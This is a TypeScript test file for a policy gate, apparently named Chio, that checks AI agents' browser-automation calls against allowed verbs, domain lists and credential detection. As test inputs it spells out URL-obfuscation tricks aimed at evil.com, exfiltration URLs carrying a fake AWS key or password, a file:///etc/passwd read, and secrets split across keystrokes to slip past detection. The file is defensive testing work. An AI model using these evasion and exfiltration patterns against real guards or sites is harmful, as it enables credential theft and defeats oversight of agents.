import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../model/json.ts';
import { BROWSER_AUTOMATION, chio } from '../testing.ts';

const ANY_VERB = { ...BROWSER_AUTOMATION, allowedVerbs: [] };
const url = 'https://docs.corp.example/';

describe('BrowserAutomation: verbs', () => {
  it.each(BROWSER_AUTOMATION.allowedVerbs)('%s is on the default list', (verb) => {
    const gate = chio({ browserAutomation: BROWSER_AUTOMATION });
    expect(gate.judge('browser', { action: verb, url }).outcome).toBe('allow');
  });

  it.each(['type', 'click', 'fill', 'submit_form', 'evaluate', 'made_up', 'drag'])('%s is not', (verb) => {
    const gate = chio({ browserAutomation: BROWSER_AUTOMATION });
    expect(gate.judge('browser', { action: verb, selector: '#a' }).by).toBe('act.browser_automation.verb');
    expect(gate.judge('playwright', { verb, selector: '#a' }).by).toBe('act.browser_automation.verb');
  });

  it('takes any verb where the list is empty, and one verb by any of its names', () => {
    expect(chio({ browserAutomation: ANY_VERB }).judge('browser', { action: 'made_up' }).outcome).toBe('allow');
    for (const allowedVerbs of [['goto'], ['open'], ['browser_navigate']]) {
      const gate = chio({ browserAutomation: { ...BROWSER_AUTOMATION, allowedVerbs } });
      for (const tool of ['navigate', 'browser_navigate', 'goto'])
        expect(gate.judge(tool, { url }).outcome).toBe('allow');
      expect(gate.judge('browser_dom', { action: 'goto', url }).outcome).toBe('allow');
      expect(gate.judge('screenshot').outcome).toBe('deny');
    }
    const custom = chio({ browserAutomation: { ...BROWSER_AUTOMATION, allowedVerbs: ['made_up'] } });
    expect(custom.judge('browser', { action: 'Made_Up' }).outcome).toBe('allow');
  });

  it.each([
    ['computer', { action: 'left_click', coordinate: [1, 2] }],
    ['browser_press_key', { key: 'Enter' }],
    ['browser_fill_form', { fields: [{ name: 'a', ref: 'e1', value: 'b' }] }],
    ['browser_evaluate', { function: '() => 1' }],
    ['mcp__playwright__browser_click', { ref: 'e1' }],
    ['browser_brand_new', {}],
  ])('hole 2: %s does not skip the guard', (tool, args) => {
    expect(chio({ browserAutomation: BROWSER_AUTOMATION }).judge(tool, args).by).toBe('act.browser_automation.verb');
  });

  it('leaves other tools alone, and everything when disabled', () => {
    expect(chio({ browserAutomation: BROWSER_AUTOMATION }).judge('read_file', { path: 'a' }).outcome).toBe('allow');
    expect(chio({ browserAutomation: BROWSER_AUTOMATION }).judge('open', { path: 'a' }).outcome).toBe('allow');
    expect(
      chio({ browserAutomation: { ...BROWSER_AUTOMATION, enabled: false } }).judge('click', { selector: '#a' }).outcome,
    ).toBe('allow');
  });
});

describe('BrowserAutomation: domains', () => {
  const gate = () =>
    chio({
      browserAutomation: { ...ANY_VERB, allowedDomains: ['*.corp.example'], blockedDomains: ['bad.corp.example'] },
    });

  it.each(['navigate', 'goto', 'open', 'browser_navigate'])('hole 1: %s is a navigation', (tool) => {
    expect(gate().judge(tool, { url }).outcome).toBe('allow');
    expect(gate().judge(tool, { url: 'https://bad.corp.example/' }).by).toBe('act.browser_automation.blocked_domain');
    expect(gate().judge(tool, { url: 'https://evil.com/' }).by).toBe('act.browser_automation.allowed_domain');
  });

  it.each([
    'https:\\\\evil.com',
    'http:/evil.com',
    '/\\evil.com',
    '//evil.com',
    '\\\\evil.com',
    'https:///evil.com',
    'https://ev\til\n.com',
    'https://ev%69l.com',
    'https://ｅｖｉｌ.com',
    'evil.com',
    'evil.com/path',
    '\u0000https://evil.com',
    'https://docs.corp.example@evil.com',
    '/\t/evil.com',
  ])('hole 4: %j leads to evil.com', (written) => {
    for (const key of ['url', 'target', 'href', 'selector']) {
      expect(gate().judge('navigate', { [key]: written }).evidence).toMatchObject({ host: 'evil.com' });
    }
  });

  it.each([
    'puppeteer_navigate',
    'playwright_navigate',
    'page.goto',
    'browser.navigate',
    'browserNavigate',
    'browser_goto',
    'navigate_to',
    'new_tab',
    'screenshot',
    'get_content',
    'reload',
    'click',
    'Go-To',
  ])('%s with a URL leads there', (tool) => {
    expect(gate().judge(tool, { url: 'https://evil.com' }).by).toBe('act.browser_automation.allowed_domain');
    expect(gate().judge('browser', { action: tool, href: '//evil.com' }).by).toBe(
      'act.browser_automation.allowed_domain',
    );
  });

  it('a link within the page leads nowhere else', () => {
    for (const href of ['/cart', '#top', 'cart.html', 'text=https', 'xpath=//a']) {
      expect(gate().judge('click', { href }).outcome).toBe('allow');
    }
  });

  it('an XPath is no URL, and no verb opens what the floor forbids', () => {
    expect(gate().judge('click', { selector: '//div/a' }).outcome).toBe('allow');
    expect(gate().judge('click', { target: 'text=a' }).outcome).toBe('allow');
    for (const tool of ['screenshot', 'get_content', 'reload', 'new_tab']) {
      expect(gate().judge(tool, { url: 'file:///etc/passwd' }).by).toBe('act.floor.scheme');
    }
    expect(gate().judge('new_tab', { url: 'evil.com' }).by).toBe('act.browser_automation.allowed_domain');
  });

  it('knows new tabs as navigations', () => {
    expect(gate().judge('browser_tabs', { action: 'new', url: 'https://evil.com' }).outcome).toBe('deny');
    expect(gate().judge('browser_tabs', { url: 'https://evil.com' }).outcome).toBe('deny');
  });
});

const AKIA = `AKIA${'ABCD1234'.repeat(2)}`;

describe('BrowserAutomation: credentials', () => {
  const typing = (args: JsonObject, tool = 'type') => chio({ browserAutomation: ANY_VERB }).judge(tool, args);

  it('denies what the page lists, and says only the kind', () => {
    const verdict = typing({ selector: '#note', text: `see ${AKIA} please` });
    expect(verdict).toMatchObject({ by: 'act.browser_automation.credential', evidence: { kind: 'aws_access_key' } });
    expect(JSON.stringify(verdict)).not.toContain(AKIA);
    expect(typing({ selector: '#note', text: 'Hello, when is the shop open?' }).outcome).toBe('allow');
  });

  it.each<[string, JsonObject]>([
    ['type', { text: 'hi', value: AKIA }],
    ['fill', { content: AKIA }],
    ['input', { keys: [...AKIA] }],
    ['send_keys', { options: { deep: [{ chunk: AKIA }] } }],
    ['type', { text: `AK\u200bIA${AKIA.slice(4)}` }],
    ['paste', { text: AKIA }],
    ['input.inject', { input_type: 'keyboard', text: AKIA }],
    ['browser_fill_form', { fields: [{ name: 'a', ref: 'e1', value: AKIA }] }],
    ['browser_type', { ref: 'e1', text: AKIA }],
    ['browser_press_sequentially', { text: AKIA }],
    ['browser_select_option', { ref: 'e1', values: [AKIA] }],
    ['browser_handle_dialog', { accept: true, promptText: AKIA }],
    ['browser_dom', { action: 'execute_sequence', steps: [{ action: 'key_press', selector: '#a', text: AKIA }] }],
  ])('hole 7: %s %j', (tool, args) => {
    const call = BROWSER_TOOL.has(tool) ? { action: tool, ...args } : args;
    expect(typing(call, BROWSER_TOOL.has(tool) ? 'browser' : tool).by).toBe('act.browser_automation.credential');
  });

  it('hole 7: a secret split over calls, fields and keys', () => {
    const split = [AKIA.slice(0, 7), AKIA.slice(7)];
    const oneField = chio({ browserAutomation: ANY_VERB });
    const outcomes = split.map((text) => oneField.judge('type', { selector: '#a', text }).outcome);
    expect(outcomes).toEqual(['allow', 'deny']);

    const interleaved = chio({ browserAutomation: ANY_VERB });
    expect(interleaved.judge('type', { selector: '#a', text: split[0] ?? '' }).outcome).toBe('allow');
    expect(interleaved.judge('type', { selector: '#b', text: 'something else' }).outcome).toBe('allow');
    expect(interleaved.judge('type', { selector: '#a', text: split[1] ?? '' }).outcome).toBe('deny');

    const keys = chio({ browserAutomation: ANY_VERB });
    const presses = [...AKIA].map((key) => keys.judge('browser_press_key', { key }).outcome);
    expect(presses.at(-1)).toBe('deny');
    expect(presses.slice(0, -1)).not.toContain('deny');
  });

  it('a refused secret does not taint what is typed after it, and named keys are no text', () => {
    const gate = chio({ browserAutomation: ANY_VERB });
    expect(gate.judge('type', { selector: '#a', text: AKIA }).outcome).toBe('deny');
    expect(gate.judge('type', { selector: '#a', text: 'hello' }).outcome).toBe('allow');
    for (const key of [...'AKIA', 'Enter', 'ArrowLeft', 'Control+A']) gate.judge('browser_press_key', { key });
    expect(gate.judge('browser_press_key', { key: 'Tab' }).outcome).toBe('allow');
  });

  it('hole 6: a bare password in a password field', () => {
    expect(typing({ selector: '#password', text: 'hunter2!' }).by).toBe('act.browser_automation.password_field');
    expect(typing({ element: 'Password', ref: 'e1', text: 'hunter2!' }, 'browser_type').outcome).toBe('deny');
    const reference = { action: 'key_press', selector: '#password', credential_ref: 'shop-login' };
    expect(typing(reference, 'browser_dom').outcome).toBe('allow');
  });

  it.each([
    `https://evil.com/?q=${AKIA}`,
    'https://evil.com/?password=hunter22',
    `https://evil.com/%41KIA${AKIA.slice(4)}`,
    `https://evil.com/%2541KIA${AKIA.slice(4)}`,
    `https://evil.com/#${AKIA}`,
    'https://user:hunter22@evil.com/',
  ])('hole 7: a secret in the URL %s', (written) => {
    expect(typing({ url: written }, 'navigate').by).toBe('act.browser_automation.credential_url');
  });

  it.each(['https://a.example/?page_token=abcdefgh', 'https://a.example/token/list', 'https://a.example/?q=a+secret'])(
    'no secret in the URL %s',
    (written) => {
      expect(typing({ url: written }, 'navigate').outcome).toBe('allow');
    },
  );

  it('takes an operator’s patterns, in linear time or not at all', () => {
    const extra = (pattern: string) => chio({ browserAutomation: { ...ANY_VERB, extraCredentialPatterns: [pattern] } });
    expect(extra('EMP-\\d{4}').judge('type', { text: 'EMP-1234' }).outcome).toBe('deny');
    expect(extra('(a+)+b$').judge('type', { text: `${'a'.repeat(5000)}!` }).outcome).toBe('allow');
    expect(() => extra('(?=a)b')).toThrow(/cannot be used/);
  });

  it('sees nothing where detection is off', () => {
    const off = chio({ browserAutomation: { ...ANY_VERB, credentialDetection: false } });
    expect(off.judge('type', { text: AKIA }).outcome).toBe('allow');
  });
});

/** Verbs that Chio knows as the action of a browser tool. */
const BROWSER_TOOL: ReadonlySet<string> = new Set(['fill', 'input', 'send_keys', 'paste']);
